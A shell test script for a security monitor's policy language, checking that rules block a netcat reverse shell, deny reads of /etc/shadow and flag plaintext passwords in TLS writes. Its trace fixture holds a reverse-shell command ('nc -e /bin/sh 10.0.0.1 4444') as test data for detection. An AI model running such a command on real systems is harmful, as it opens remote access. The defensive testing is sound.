#!/bin/sh
# User-space function events by argument name (base/catalog_user.c): the
# checker knows each function's arguments, string arguments come from the
# trace's "strings" as a live monitor reads them from the process, and a
# replay decides on them.
. "$(dirname "$0")/../tap.sh"

cat > "$T/u.vsp" <<'P'
rule "revshell": on user "libc.so.6":system, popen when command contains "nc " : return 127, alert "system(%{command}) by %{proc.comm}";
rule "shadow": on user "libc.so.6":fopen, open when path == "/etc/shadow" : deny EACCES;
rule "tls": on user "libssl.so.3":SSL_write when buf contains "password" and num < 100 : log "tls plaintext %{num} bytes";
rule "spawn": on user "/bin/app":posix_spawn when pathname startswith "/tmp/" : kill;
P
cat > "$T/u.jsonl" <<'T'
{"seq":1,"kind":"user","lib":"libc.so.6","name":"system","args":[1,0,0,0,0,0],"strings":{"command":"nc -e /bin/sh 10.0.0.1 4444"},"proc":{"pid":50,"comm":"evil"}}
{"seq":2,"kind":"user","lib":"libc.so.6","name":"system","args":[1,0,0,0,0,0],"strings":{"command":"ls /tmp"},"proc":{"pid":51,"comm":"good"}}
{"seq":3,"kind":"user","lib":"libc.so.6","name":"popen","args":[1,2,0,0,0,0],"strings":{"command":"nc host 1","type":"r"},"proc":{"pid":54,"comm":"evil2"}}
{"seq":4,"kind":"user","lib":"libc.so.6","name":"fopen","args":[1,2,0,0,0,0],"strings":{"pathname":"/etc/shadow","mode":"r"},"proc":{"pid":52,"comm":"cat"}}
{"seq":5,"kind":"user","lib":"libc.so.6","name":"fopen","args":[1,2,0,0,0,0],"strings":{"pathname":"/etc/hosts","mode":"r"},"proc":{"pid":52,"comm":"cat"}}
{"seq":6,"kind":"user","lib":"libssl.so.3","name":"SSL_write","args":[1,2,20,0,0,0],"strings":{"buf":"user=a password=b"},"proc":{"pid":53,"comm":"curl"}}
{"seq":7,"kind":"user","lib":"/bin/app","name":"posix_spawn","args":[0,1,0,0,0,0],"strings":{"pathname":"/tmp/x"},"proc":{"pid":55,"comm":"app"}}
T
"$VSP" replay "$T/u.vsp" --trace "$T/u.jsonl" > "$T/audit" 2> "$T/err"
is "$?" 0 "replay: exit 0"
a=$(cat "$T/audit")
like "$a" '"seq":1,.*"rule":"revshell","verdict":"return","value":127,.*"msg":"system\(nc -e /bin/sh 10.0.0.1 4444\) by evil"' \
	"system: the hostile command returns the policy's value, the message names it"
ok '! grep -q "\"seq\":2," "$T/audit"' "system: the benign command runs (no record)"
like "$a" '"seq":3,.*"rule":"revshell","verdict":"return"' "popen: the same argument name"
like "$a" '"seq":4,.*"rule":"shadow","verdict":"deny","errno":13' "fopen: path is its pathname"
ok '! grep -q "\"seq\":5," "$T/audit"' "fopen: another file opens"
like "$a" '"seq":6,.*"msg":"tls plaintext 20 bytes"' "SSL_write: buf and num by name"
like "$a" '"seq":7,.*"rule":"spawn","verdict":"kill"' "posix_spawn in a program named by path"

printf 'on user "libc.so.6":system when pathname == "x" : deny;\n' > "$T/bad.vsp"
"$VSP" check "$T/bad.vsp" 2> "$T/err"
is "$?" 1 "a name the prototype lacks: error"
like "$(cat "$T/err")" "field 'pathname' does not exist for user \"libc.so.6\":system" "and says which"
printf 'on user "libfoo.so":frobnicate when arg0 == 1 and func == "frobnicate" : deny;\n' > "$T/raw.vsp"
"$VSP" check "$T/raw.vsp" 2> "$T/err"
is "$?" 0 "a function without a prototype: arg0..arg5 and func"
printf 'on user "libfoo.so":frobnicate when command == "x" : deny;\n' > "$T/raw2.vsp"
"$VSP" check "$T/raw2.vsp" 2> "$T/err"
is "$?" 1 "a function without a prototype has no named arguments"
done_testing
